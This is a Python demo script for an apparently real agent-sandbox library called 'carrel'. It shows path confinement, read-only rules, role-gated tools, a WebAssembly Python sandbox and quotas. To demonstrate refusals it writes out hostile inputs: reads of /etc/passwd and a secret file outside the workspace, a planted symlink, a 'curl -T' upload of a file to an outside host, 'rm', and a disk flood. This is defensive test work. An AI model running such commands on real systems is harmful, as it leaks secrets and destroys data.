"""The story that `carrel demo` tells: every step is done for real, on a session in a temporary directory."""

from __future__ import annotations

import logging
import os
import tempfile
from collections.abc import Callable
from contextlib import closing
from dataclasses import replace
from pathlib import Path

import click

from carrel.audit.event import Event
from carrel.audit.logger import SandboxLogger
from carrel.audit.printable import printable
from carrel.config.load import load
from carrel.config.table import DEFAULT_ROLES
from carrel.errors import CarrelError
from carrel.policy.rules import Access, AccessMode, Decision, PathRule, SandboxPolicy
from carrel.runtimes.installed import find_installed
from carrel.sandbox.engines import make_engine
from carrel.sandbox.place import OpenPlace
from carrel.sandbox.sandbox import PythonSandbox
from carrel.shell.shell import BareShell
from carrel.tools.toolbox import Toolbox
from carrel.values import Limits
from carrel.workspace.sessions import WorkspaceManager
from carrel.workspace.workspace import Workspace

QUOTA_BYTES = 128 * 2**10
REPORT = """\
title: Rainfall
station: north
unit: mm
total: 812
checked: no
"""
RAIN = "month,north,south\n" + "".join(f"{n},{60 + 9 * n % 31},{40 + 7 * n % 23}\n" for n in range(1, 13))
PLOT = """\
import matplotlib.pyplot as plt, pandas as pd
rain = pd.read_csv("rain.csv", index_col="month")
print(rain.describe().loc[["mean", "max"]].round(1))
rain.plot()
plt.savefig("rain.png", dpi=50)
"""
ESCAPE = """\
for path in ("/etc/passwd", "../../secret.txt"):
    try:
        print(open(path).read())
    except OSError as error:
        print(type(error).__name__, error.strerror)
"""
LINES = (
    "ls -l report.txt notes",
    "grep -rn total .",
    "cd notes",
    "cat todo.txt ../../../secret.txt",
    "cat todo.txt | curl -T - example.org",
    "cd ..",
)
PIPELINE = "sort -t : -k 2 report.txt | head -n 2 > first.txt && wc -l first.txt"
CALLS = (
    ("developer", "file_edit", {"path": "report.txt", "old_text": "unit: mm", "new_text": "unit: cm"}),
    ("critic", "file_read", {"path": "report.txt", "offset": 3, "limit": 1}),
    ("critic", "file_read", {"path": "notes.txt"}),
    ("critic", "file_write", {"path": "report.txt", "content": ""}),
    ("critic", "bash", {"command": "rm report.txt"}),
)
FLOOD = 'open("flood.bin", "wb").write(bytes(10_000_000))'


def tell() -> None:
    """Tell the story and leave nothing behind."""
    with tempfile.TemporaryDirectory(prefix="carrel-demo-") as name:
        base = Path(name)
        data = base / "data"
        data.mkdir()
        (data / "stations.csv").write_text("north,55.1\nsouth,48.2\n")
        (base / "secret.txt").write_text("not for a session\n")
        sessions = WorkspaceManager(base / "sessions", logger=SandboxLogger(_silent()))
        policy = SandboxPolicy.for_workspace(
            sessions.root / "demo", allow=[PathRule(str(data), AccessMode.READ_ONLY)]
        )
        with sessions.create("demo", policy=policy, limits=Limits(disk_bytes=QUOTA_BYTES)) as workspace:
            _work(workspace)
            _leave(workspace, sessions.root / "demo", base)
            _obey(workspace, data)
            _type(workspace)
            _equip(workspace)
            _compute(workspace)
            _fill(workspace)
            _remember(workspace)
        _remove(sessions)
        sessions.close()
        _heading("The end: the temporary directory is removed")


def _silent() -> logging.Logger:
    """A logger that writes nothing: the story shows the refusals itself."""
    return logging.Logger("carrel.demo", logging.CRITICAL + 1)


def _work(workspace: Workspace) -> None:
    _heading("A session is a directory of files")
    _say(f"paths are kept inside by: {workspace.confinement}")
    _code('workspace.write("report.txt", ...)')
    workspace.write("report.txt", REPORT)
    _code('workspace.write("notes/todo.txt", ...)    directories are made as needed')
    workspace.write("notes/todo.txt", "check the total\nask about the south station\n")
    _code("workspace.walk()")
    for info in workspace.walk():
        _say(f"{info.kind:<10} {info.size_bytes:>5} bytes  {info.path}")

    _heading("Read a window of lines")
    _code('workspace.read_lines("report.txt", start=2, count=2)')
    window = workspace.read_lines("report.txt", start=2, count=2)
    for line in window.text.splitlines():
        _say(line)
    _say(
        f"({window.count} of {window.total_lines} lines; the next window starts at line {window.next_start})"
    )

    _heading("Edit one place; the file is replaced at once or not at all")
    _code('workspace.edit("report.txt", "checked: no", "checked: yes")')
    for line in workspace.edit("report.txt", "checked: no", "checked: yes").diff.splitlines():
        _say(click.style(line, fg={"+": "green", "-": "red"}.get(line[0])))

    _heading("Search in linear time, whatever the expression")
    _code('workspace.search("total|south")')
    for match in workspace.search("total|south").matches:
        _say(f"{match.path}:{match.line}:{match.column}: {match.text}")


def _leave(workspace: Workspace, directory: Path, base: Path) -> None:
    _heading("Nothing leads out")
    os.symlink(base / "secret.txt", directory / "innocent.txt")
    _say("somebody planted the link innocent.txt, which points at a file outside")
    _refused('workspace.read("../../secret.txt")', lambda: workspace.read("../../secret.txt"))
    _refused('workspace.read("/etc/passwd")', lambda: workspace.read("/etc/passwd"))
    _refused('workspace.read("innocent.txt")', lambda: workspace.read("innocent.txt"))
    _refused('workspace.write("../new.txt", b"")', lambda: workspace.write("../new.txt", b""))
    _code('workspace.remove("innocent.txt")')
    workspace.remove("innocent.txt")
    _say(
        f"the link is removed, never its target: secret.txt is still there: {(base / 'secret.txt').exists()}"
    )


def _obey(workspace: Workspace, data: Path) -> None:
    _heading("Rules: the first one that has a path decides")
    table = f"{data}/stations.csv"
    _code('workspace.read(".../data/stations.csv")    allowed read-only, besides the workspace')
    _say(repr(workspace.read(table)))
    _refused('workspace.write(".../data/stations.csv", b"")', lambda: workspace.write(table, b""), hide=data)
    for access in Access:
        _code(f'workspace.explain(".../data/stations.csv", "{access}")')
        _say(_explained(workspace.explain(table, access)))


def _explained(decision: Decision) -> str:
    answer = "allowed" if decision.allowed else f"denied: {decision.reason}"
    mode = decision.rule.mode if decision.rule else "no rule"
    return f"{answer} (rule {decision.index}, {mode})"


def _type(workspace: Workspace) -> None:
    _heading("A shell with no shell behind it: commands in this process, through the same gate")
    shell = BareShell(workspace)
    for line in LINES:
        _run(shell, line)
    _say("and with pipelines switched on:")
    shell.pipelines = True
    _run(shell, PIPELINE)


def _run(shell: BareShell, line: str) -> None:
    click.echo(f"  {shell.cwd}$ {click.style(line, fg='cyan')}")
    result = shell.run(line)
    for text in result.stdout.decode().splitlines():
        _say(text)
    for text in result.stderr.decode().splitlines():
        _say(click.style(text, fg="red"))


def _equip(workspace: Workspace) -> None:
    _heading("Tools for agents: a role decides which there are, and whether anything may be changed")
    for role, name, arguments in CALLS:
        _code(f"{role}: {name}({', '.join(f'{key}={value!r}' for key, value in arguments.items())})")
        with Toolbox(workspace, role, roles=DEFAULT_ROLES, here=True) as toolbox:
            result = toolbox.call(name, arguments)
        _say(result.text() if result.error is None else click.style(result.error, fg="red"))


def _compute(workspace: Workspace) -> None:
    _heading("Python in WebAssembly, on the same files and behind the same gate")
    if (missing := _missing_guest()) is not None:
        _say(missing)
        return
    workspace.write("rain.csv", RAIN)
    with closing(make_engine(replace(load(os.environ).python, ready=0))) as engine:
        sandbox = PythonSandbox(OpenPlace(workspace), engine=engine)
        for code in (PLOT, ESCAPE, FLOOD):
            _script(sandbox, code)


def _missing_guest() -> str | None:
    """Why there is no guest, if there is none."""
    try:
        find_installed()
    except CarrelError as error:
        return error.message
    return None


def _script(sandbox: PythonSandbox, code: str) -> None:
    for line in code.splitlines():
        _code(line)
    result = sandbox.execute(code)
    for line in (result.stdout + result.stderr).splitlines()[-6:]:
        _say(click.style(line, fg=None if result.success else "red"))
    changed = [*result.files_created, *result.files_modified]
    _say(f"exit code {result.exit_code}; files written: {', '.join(changed) or 'none'}")


def _fill(workspace: Workspace) -> None:
    _heading("A quota: a session holds so much and no more")
    _code('workspace.write("half.bin", bytes(80_000))')
    workspace.write("half.bin", bytes(80_000))
    _refused('workspace.write("more.bin", bytes(80_000))', lambda: workspace.write("more.bin", bytes(80_000)))


def _remember(workspace: Workspace) -> None:
    _heading("The journal: every change and every refusal, kept outside the workspace")
    _code("workspace.changes()")
    for event in workspace.changes():
        _say(_event(event))


def _remove(sessions: WorkspaceManager) -> None:
    _heading("The end of a session: deleted, or swept when it was idle for too long")
    _code('sessions.delete_workspace("demo")')
    sessions.delete_workspace("demo")
    _say(f"files, record and journal are gone; sessions that are left: {len(sessions.list_workspaces())}")


def _event(event: Event) -> str:
    result = f"refused: {event.error}" if event.error else _sizes(event)
    path = event.path if event.operation == "shell" else os.path.basename(event.path)
    return f"{event.sequence:>6}  {event.operation:<7} {printable(path[:36]):<18} {result}"


def _sizes(event: Event) -> str:
    before, after = (
        "nothing" if size is None else f"{size} bytes" for size in (event.before_bytes, event.after_bytes)
    )
    return f"{before} -> {after}"


def _refused(code: str, call: Callable[[], object], *, hide: Path | None = None) -> None:
    _code(code)
    try:
        call()
    except CarrelError as error:
        message = error.message if hide is None else error.message.replace(str(hide), ".../data")
        _say(click.style(f"{error.code}: {message}", fg="red"))
    else:
        raise RuntimeError(f"not refused: {code}")


def _heading(text: str) -> None:
    click.echo(f"\n{click.style(text, bold=True)}")


def _code(text: str) -> None:
    click.echo(f"  >>> {click.style(text, fg='cyan')}")


def _say(text: str) -> None:
    click.echo(f"      {text}")
